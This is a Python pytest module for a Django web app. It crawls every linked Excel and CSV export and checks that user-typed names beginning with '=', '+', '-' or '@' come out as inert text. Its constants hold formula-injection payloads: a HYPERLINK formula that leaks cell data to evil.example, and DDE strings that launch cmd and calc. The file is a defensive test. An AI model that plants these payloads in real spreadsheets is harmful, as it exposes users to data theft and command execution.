"""Every export and download a person can reach gives hostile text back inert (docs/security.md §45).

A walker, not a list: it gives the names and titles of every object of the test world a value that starts like a
formula, then follows, as staff and as an anonymous visitor, every link the pages show from every URL pattern
that takes no argument — the 导出 Excel buttons (`?export=xlsx`), the templates, rankings and downloads
included — and reads every answer that is a spreadsheet (.xlsx) or a CSV. In each, no cell is a formula and
every text cell that starts with "=", "+", "-", "@", a tab or a carriage return is kept as text: with Excel's
quote prefix in a workbook (`core.excel.guard_text`), behind a leading "'" in a CSV (`csv_cell`). A new
export that writes its cells itself, or a new download of another kind of table, fails here once a page links
to it."""

import csv
import io
import re
import zipfile
from urllib.parse import urldefrag, urljoin, urlparse

import pytest
from django.db import models
from django.test import Client
from openpyxl import load_workbook

from kechuang.core.excel import starts_like_formula
from kechuang.core.routes import argless_paths
from kechuang.web.tests.world import World

pytestmark = [pytest.mark.django_db, pytest.mark.slow]

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1"]
SKIP = re.compile(r"^/(admin/|i18n/|static/|accounts/logout/|api/docs|api/redoc|api/schema)")
LINK = re.compile(r"""\bhref=["']([^"'#]+)""")
MAX_PAGES = 600
SPREADSHEET = ("spreadsheetml", "ms-excel", "text/csv")


def _hostile_world() -> World:
    """A world whose every name and title (free text a person typed or an import brought) starts like a formula."""
    w = World().grow(1)
    values = [HOSTILE, *OTHERS]
    n = 0
    for obj in {id(v): v for v in vars(w).values() if isinstance(v, models.Model)}.values():
        model = type(obj)
        for field in model._meta.concrete_fields:
            if field.name not in ("name", "title", "counterparty", "name_en", "title_en") or field.choices:
                continue
            if not isinstance(field, models.CharField | models.TextField):
                continue
            value = f"{values[n % len(values)]} {n}"[: field.max_length or 200]
            model._default_manager.filter(pk=obj.pk).update(**{field.name: value})
            n += 1
    assert n >= 10
    return w


def _shape(url: str) -> str:
    parsed = urlparse(url)
    path = re.sub(r"/[0-9a-f-]{36}/", "/<uuid>/", parsed.path)
    path = re.sub(r"/\d+/", "/<n>/", path)
    keys = sorted(k.split("=")[0] for k in parsed.query.split("&") if k)
    exported = [k for k in parsed.query.split("&") if k.startswith(("export=", "format=", "download="))]
    return path + "?" + "&".join(k for k in keys if k in ("export", "format", "download")) + "".join(exported)


def _cells(response) -> tuple[list, list]:
    """(text cells that start like a formula and are not inert, every text cell) of a spreadsheet answer."""
    data = b"".join(response.streaming_content) if response.streaming else response.content
    bad, texts = [], []
    if "text/csv" in response["Content-Type"]:
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            for cell in row:
                texts.append(cell)
                if starts_like_formula(cell):  # a guarded CSV cell starts with "'"
                    bad.append(cell)
        return bad, texts
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    bad.append(f"formula {cell.coordinate}: {cell.value}")
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
                    if starts_like_formula(cell.value) and not (cell.data_type == "s" and cell.quotePrefix):
                        bad.append(f"{ws.title}!{cell.coordinate}: {cell.value}")
    with zipfile.ZipFile(io.BytesIO(data)) as z:  # no formula element anywhere in the sheets' XML
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in z.read(name):
                bad.append(f"{name}: <f>")
    return bad, texts


def _walk(client: Client) -> dict[str, tuple[list, list]]:
    """Spreadsheets found by following the links of every page, by URL: (not inert, every text cell)."""
    queue = [*argless_paths(SKIP), "/", "/dashboard/"]
    seen: set[str] = set()
    found: dict[str, tuple[list, list]] = {}
    pages = 0
    while queue and pages < MAX_PAGES:
        url = queue.pop(0)
        shape = _shape(url)
        if shape in seen or SKIP.search(url):
            continue
        seen.add(shape)
        response = client.get(url)
        pages += 1
        kind = response.get("Content-Type", "")
        if response.status_code == 200 and any(k in kind for k in SPREADSHEET):
            found[url] = _cells(response)
            continue
        if response.status_code != 200 or "text/html" not in kind:
            continue
        for href in LINK.findall(response.content.decode("utf-8", "replace")):
            target = urlparse(urldefrag(urljoin(url, href.replace("&amp;", "&")))[0])
            if target.scheme in ("", "http") and target.netloc in ("", "testserver"):
                queue.append(target.path + (f"?{target.query}" if target.query else ""))
    return found


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    from django.db import transaction

    with django_db_blocker.unblock():
        atomic = transaction.atomic()
        atomic.__enter__()
        try:
            yield _hostile_world()
        finally:
            transaction.set_rollback(True)
            atomic.__exit__(None, None, None)


@pytest.mark.parametrize("role", ["staff", "anonymous"])
def test_every_spreadsheet_a_page_links_to_keeps_hostile_text_inert(world, role):
    client = Client(raise_request_exception=False)
    if role != "anonymous":
        client.force_login(world.users[role])
    found = _walk(client)
    assert found, "the walk found no spreadsheet"
    bad = {url: cells for url, (cells, _texts) in found.items() if cells}
    assert not bad, bad
    if role == "staff":
        # the walk reached the list exports (tests/test_exports.py names 12) and they carry the hostile names
        assert len(found) >= 10, sorted(found)
        carrying = [url for url, (_b, texts) in found.items() if any(t.startswith(HOSTILE) for t in texts)]
        assert len(carrying) >= 3, sorted(found)


def test_the_check_finds_a_formula_and_an_unquoted_formula_like_text():
    """The walker's own check is not blind: a raw workbook with a formula and a bare "@SUM" fails it."""
    from django.http import HttpResponse
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["=1+1", "@SUM(1,2)", "ok"])
    out = io.BytesIO()
    wb.save(out)
    response = HttpResponse(
        out.getvalue(), content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    bad, _texts = _cells(response)
    assert len(bad) >= 3  # the formula cell, the bare text, the <f> element
    csv_response = HttpResponse("a,=1+1,'=2\n", content_type="text/csv")
    assert _cells(csv_response)[0] == ["=1+1"]
